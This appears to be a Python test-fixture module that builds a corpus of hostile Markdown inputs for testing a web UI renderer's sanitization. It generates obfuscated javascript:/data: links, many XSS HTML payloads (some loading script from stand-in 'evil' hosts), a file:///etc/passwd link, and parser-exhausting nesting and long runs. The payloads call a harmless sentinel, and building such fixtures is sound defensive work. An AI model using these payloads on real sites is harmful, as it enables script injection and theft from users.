"""A corpus of hostile Markdown answers for the web UI's renderer (tests/test_web_ui.py renders each in the page,
whole and prefix by prefix), by class: script-bearing link schemes hidden by Unicode whitespace, control and format
characters or by entity and percent encoding; autolinks; reference-style links and images; raw HTML of dangerous
elements and attributes; SVG and MathML; attribute breakouts; containers nested 10k deep; long runs of every
delimiter. A payload that runs calls __pwn(name), which the test page records."""
from __future__ import annotations

import sys
import unicodedata

SENTINEL = "__pwn"


def run(name: str) -> str:
    return f"{SENTINEL}('{name}')"


def hiding_chars() -> list[str]:
    """Every whitespace, control and format character of the BMP, and the astral format characters."""
    chars = []
    for cp in list(range(0x10000)) + [0x110BD, 0x110CD, 0x13430, 0x1BCA0, 0x1D173, 0x1D17A, 0xE0001, 0xE0020,
                                      0xE007F]:
        if 0xD800 <= cp <= 0xDFFF:
            continue
        c = chr(cp)
        if c.isspace() or unicodedata.category(c) in ("Cc", "Cf", "Zs", "Zl", "Zp"):
            chars.append(c)
    return chars


def scheme_links(c: str, k: int) -> str:
    """Links whose javascript:/vbscript:/data: scheme has `c` before it and inside it, in every link form."""
    js, vb = f"javascript:{run(f'js{k}')}", f"vbscript:msgbox({k})"
    data = f"data:text/html,<script>{run(f'd{k}')}</script>"
    spliced = f"java{c}script:{run(f'jss{k}')}"
    lines = [
        f"[a{k}]({c}{js}) [b]({c}{c}{js}) [c]({spliced}) [d](java{c}{c}script:{run('x')})",
        f"[e](<{c}{js}>) [f](<{spliced}>) [g](<{c}{vb}>) [h](<{c}{data}>)",
        f"[i]({c}{vb}) [j]({c}{data}) [k](JaVa{c}ScRiPt:{run('u')}) [l]({c}javascript&colon;{run('ent')})",
        f"![m]({c}{js}) ![n](<{c}{data}>) <{c}{js}> {c}{js}",
        f"[o][r{k}] ![p][r{k}]",
        "",
        f"[r{k}]: <{c}{js}> \"t\"",
    ]
    return "\n".join(lines)


def schemes() -> list[tuple[str, str]]:
    return [(f"scheme U+{ord(c):04X}", scheme_links(c, k)) for k, c in enumerate(hiding_chars())]


def encoded() -> list[tuple[str, str]]:
    js = run("enc")
    forms = [
        f"&#106;avascript:{js}", f"&#x6A;avascript:{js}", f"&#0000106;avascript:{js}", f"&#x0006A;avascript:{js}",
        f"javascript&#58;{js}", f"javascript&colon;{js}", f"javascript&#x3A;{js}", f"java&Tab;script:{js}",
        f"java&NewLine;script:{js}", f"&Tab;javascript:{js}", f"&nbsp;javascript:{js}", f"&#160;javascript:{js}",
        f"&#8203;javascript:{js}", f"&#xFEFF;javascript:{js}", f"%6Aavascript:{js}", f"java%09script:{js}",
        f"javascript%3A{js}", f"%20javascript:{js}", f"%00javascript:{js}", f"javas&#99;ript:{js}",
        f"&#x26;#106;avascript:{js}", f"\\javascript:{js}", f"java\\script:{js}", f"javascript\\:{js}",
        f"&#100;ata:text/html,<script>{js}</script>", f"vbscript&colon;msgbox(1)", f"&#x76;bscript:msgbox(1)",
        f"JAVASCRIPT:{js}", f"jAvAsCrIpT:{js}", f"javascript://%0a{js}", f"javascript://comment%0d%0a{js}",
        f"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "data:image/svg+xml,<svg onload=alert(1)>",
        f"data:image/png;base64,iVBORw0KGgo=", f"blob:http://127.0.0.1/x", f"file:///etc/passwd",
        f"feed:javascript:{js}", f"jar:javascript:{js}", f"view-source:javascript:{js}", f"about:blank",
        f"filesystem:http://x/y", f"intent://x#Intent;end", f"chrome://settings", f"ws://127.0.0.1/",
    ]
    out = []
    for k, f in enumerate(forms):
        out.append((f"encoded {k}", f"[x]({f}) [y](<{f}>) ![z]({f}) <{f}>\n\n[q][r]\n\n[r]: {f}\n"))
    return out


def autolinks() -> list[tuple[str, str]]:
    js = run("auto")
    return [(f"autolink {k}", t) for k, t in enumerate([
        f"<javascript:{js}>", f"<JAVASCRIPT:{js}>", f"<vbscript:msgbox(1)>", f"<data:text/html,<b>x</b>>",
        f"<java\tscript:{js}>", "<javascript\u00a0:alert(1)>", f"javascript:{js} www.javascript:{js}",
        f"http://x.y/\"onmouseover={js}\" https://a.b/'><script>{js}</script>",
        f"<http://a.b/\"onclick={js}> <https://x/'><img src=x onerror={js}>>",
        "<mailto:a@b.c?body=<script>alert(1)</script>> a@b.c mailto:javascript:alert(1)",
        f"https://example.com/<svg/onload={js}> https://exa\u202emple.com",
        "http://" + "a." * 3000 + "com " + "www." * 2000,
        f"<{'a' * 30}:{js}> <a+b.c-d:{js}>",
    ])]


def references() -> list[tuple[str, str]]:
    js = run("ref")
    defs = [
        f"[r]: javascript:{js}", f"[r]: <javascript:{js}>", f"[r]: \u00a0javascript:{js}",
        f"[r]: <\u2028javascript:{js}>", f"[r]: /ok \"t\\\" onclick=\\\"{js}\"", f"[r]: /ok 't' onmouseover={js}",
        f"[r]:\n  javascript:{js}\n  \"title\"", f"[R]: data:text/html,<script>{js}</script>",
        f"[r]: &#106;avascript:{js}", f"[r]: <&#x20;javascript:{js}>",
    ]
    return [(f"reference {k}", f"[a][r] [b][] [r] ![c][r] ![r] [x][R]\n\n{d}\n") for k, d in enumerate(defs)]


DANGEROUS_HTML = [
    "<script>{js}</script>", "<SCRIPT SRC=//evil/x.js></SCRIPT>", "<img src=x onerror={js}>",
    "<img src=\"https://evil.example/p.png\">", "<svg onload={js}>", "<svg><script>{js}</script></svg>",
    "<iframe src=\"javascript:{js}\"></iframe>", "<iframe srcdoc=\"<script>{js}</script>\"></iframe>",
    "<object data=\"javascript:{js}\"></object>", "<embed src=\"javascript:{js}\">",
    "<a href=\"javascript:{js}\">x</a>", "<a href=\"\u00a0javascript:{js}\">x</a>",
    "<body onload={js}>", "<details open ontoggle={js}>", "<input autofocus onfocus={js}>",
    "<video><source onerror={js}></video>", "<audio src=x onerror={js}>", "<marquee onstart={js}>",
    "<style>*{{background:url(javascript:{js})}}</style>", "<link rel=stylesheet href=//evil/x.css>",
    "<meta http-equiv=refresh content=\"0;url=javascript:{js}\">", "<base href=\"javascript:{js}//\">",
    "<form action=\"javascript:{js}\"><button>x</button></form>", "<button formaction=\"javascript:{js}\">x</button>",
    "<math><mtext><table><mglyph><style><img src=x onerror={js}>", "<math href=\"javascript:{js}\">x</math>",
    "<svg><a xlink:href=\"javascript:{js}\"><text>x</text></a></svg>",
    "<svg><animate onbegin={js} attributeName=x dur=1s>", "<svg><set attributeName=href to=javascript:{js}>",
    "<svg><foreignObject><img src=x onerror={js}></foreignObject></svg>",
    "<svg><style><img src=x onerror={js}></style></svg>", "<noscript><p title=\"</noscript><img src=x onerror={js}>\">",
    "<template><script>{js}</script></template>", "<xmp><script>{js}</script></xmp>",
    "<textarea><script>{js}</script></textarea>", "<plaintext><script>{js}</script>",
    "<div style=\"background:url(javascript:{js})\">x</div>", "<p onclick={js}>x</p>",
    "<a href=x ping=//evil/p>x</a>", "<img srcset=\"x 1x\" onerror={js}>", "<table background=javascript:{js}>",
    "<isindex action=javascript:{js} type=image>", "<frameset onload={js}>", "<applet code=x>",
    "<x onclick={js}>x</x>", "<!--<img src=x onerror={js}>-->", "<![CDATA[<img src=x onerror={js}>]]>",
    "<?xml x><img src=x onerror={js}>", "<img src=`x` onerror={js}>", "<img/src=x/onerror={js}>",
    "<scr<script>ipt>{js}</scr</script>ipt>", "<<script>script>{js}<</script>/script>",
]


def raw_html() -> list[tuple[str, str]]:
    out = []
    for k, h in enumerate(DANGEROUS_HTML):
        tag = h.format(js=run(f"html{k}"))
        # alone, inline in a paragraph, in a list item, in a table cell, in a block quote, in a link label and code
        text = (f"{tag}\n\ntext {tag} text\n\n- {tag}\n\n| a |\n|---|\n| {tag} |\n\n> {tag}\n\n"
                f"[{tag}](/x) `{tag}` **{tag}**")
        out.append((f"html {k}", text))
    return out


def breakouts() -> list[tuple[str, str]]:
    js = run("brk")
    return [(f"breakout {k}", t) for k, t in enumerate([
        f"[x](/a \"t\\\" onclick=\\\"{js}\\\"\")", f"[x](/a 'q\\' onmouseover={js}')", f"[x](/a (t\" onclick=\"{js}))",
        f"[x](/a\"onmouseover={js}\")", f"[x](</a\" onclick=\"{js}>)", f"[x\" onclick=\"{js}](/a)",
        f"![x\" onerror=\"{js}](/a)", f"![x](/a \"\" onerror=\"{js}\")",
        f"```js\" onclick=\"{js}\nx\n```", f"```\"><img src=x onerror={js}>\nx\n```",
        f"~~~ <script>{js}</script>\nx\n~~~", f"```language-x\" onclick=\"{js}\nx\n```",
        f"| a | b |\n|:-\" onclick=\"{js}|--|\n| 1 | 2 |", f"# h\" onclick=\"{js} #",
        f"1. x\n\n3\" onclick=\"{js}. y", f"[x](/a?b=\"><script>{js}</script>)",
        f"[x](https://e.x/a'><img src=x onerror={js}>)", f"`</code><img src=x onerror={js}>`",
        f"<a href='/x'>[y](javascript:{js})</a>", f"[<a href=\"javascript:{js}\">x</a>](/y)",
        f"[x](/y){{onclick={js}}}", f"*x*{{: onclick=\"{js}\"}}",
    ])]


def nesting(depth: int = 10_000) -> list[tuple[str, str]]:
    lines = 300  # a container per line, each line one marker deeper: about lines * lines characters
    return [(f"nest {name}", text) for name, text in [
        ("blockquote", ">" * depth + " x"), ("blockquote spaced", "> " * depth + "x"),
        ("blockquote lines", "\n".join(">" * k + " x" for k in range(1, lines + 1))),
        ("bullet list", "- " * depth + "x"), ("star list", "* " * depth + "x"), ("plus list", "+ " * depth + "x"),
        ("ordered list", "1. " * depth + "x"), ("paren list", "1) " * depth + "x"),
        ("indented lists", "\n".join("  " * k + "- x" for k in range(lines))),
        ("indented ordered", "\n".join("   " * k + "1. x" for k in range(lines))),
        ("quote list mix", "> - " * (depth // 2) + "x"), ("list quote mix", "- > " * (depth // 2) + "x"),
        ("emphasis", "*a " * depth + "x" + " a*" * depth), ("strong", "**a " * depth + "x" + " a**" * depth),
        ("underscore", "_a " * depth + "x" + " a_" * depth), ("strike", "~~a " * depth + "x" + " a~~" * depth),
        ("links", "[" * depth + "x" + "](/y)" * depth), ("images", "![" * depth + "x" + "](/y)" * depth),
        ("link in link", "[a " * depth + "x" + "](/y)" * depth), ("html", "<div>" * depth + "x" + "</div>" * depth),
        ("anchors", "<a href=x>" * depth + "x"), ("code spans", "`" * depth + "x" + "`" * depth),
        ("parens", "[x](" + "(" * depth + ")" * depth + ")"), ("brackets", "[" * depth + "x" + "]" * depth),
        ("emphasis mixed", "*_" * depth + "x" + "_*" * depth), ("quote fence", ">" * depth + " ```\nx"),
    ]]


def long_runs(n: int = 100_000) -> list[tuple[str, str]]:
    runs = ["*", "_", "~", "`", "[", "]", "(", ")", "!", "<", ">", "#", "|", "-", "=", "\\", "&", ":", " ", "\t",
            "\n", ".", "@", "\"", "'", "+", "h"]
    patterns = ["*a", "**a", "_a", "a_", "*a_", "~~a", "[a", "[a](", "![", "](", "<a", "<a ", "&#", "&#x", "&a",
                "`a", "``a", "\\*", "a.", "www.", "http://", "a@b.", "- ", "1. ", "> ", "| a ", "|-", "# ", "\n\n",
                "\n- a", "\n> a", "*\n", "a  \n", "[a]: /b\n", "[a]\n", "<!--", "<a>", "</a>", "\u00a0", "\u200b"]
    out = [(f"run {c!r}", c * n) for c in runs] + [(f"run {p!r}", p * (n // len(p))) for p in patterns]
    out += [(f"run {name}", text) for name, text in [
        ("heading spaces", "# " + " " * n + "x"), ("heading hashes", "#" * n),
        ("heading tail", "# x" + " #" * (n // 2)),
        ("table delimiter", "| a |\n" + "|" + "-" * n + "|"), ("table wide delimiter", "| a |\n" + "|-" * (n // 2)),
        ("table wide", "|" + "a|" * 2000 + "\n" + "|-" * 2000 + "|\n" + ("|" + "b|" * 2000 + "\n") * 20),
        ("table tall", "| a | b |\n|---|---|\n" + "| 1 | **2** |\n" * (n // 12)),
        ("table ragged", "| a |" + " b |" * 500 + "\n|-|\n" + "|x\n" * (n // 3)),
        ("fence open", "```\n" + "a\n" * (n // 2)), ("fences", "```\n" * (n // 4)),
        ("setext", "a\n=\n" * (n // 4)), ("list items", "- a\n" * (n // 4)), ("loose list", "- a\n\n" * (n // 5)),
        ("paragraphs", "a\n\n" * (n // 3)), ("entities", "&amp;" * (n // 5)),
        ("link defs", "".join(f"[l{k}]: /u{k}\n" for k in range(n // 12))),
        ("emphasis alternating", "*a _" * (n // 4)), ("unclosed links", "[a](b " * (n // 6)),
        ("backslashes", "\\" * n + "*x*"), ("angle autolinks", "<http://a" * (n // 9)),
    ]]
    return out


def corpus() -> list[tuple[str, str]]:
    """(class and case, text) for every input."""
    return schemes() + encoded() + autolinks() + references() + raw_html() + breakouts() + nesting() + long_runs()


if __name__ == "__main__":
    items = corpus()
    by_class: dict[str, int] = {}
    for name, _ in items:
        by_class[name.split()[0]] = by_class.get(name.split()[0], 0) + 1
    print(len(items), by_class, max(len(t) for _, t in items), file=sys.stderr)
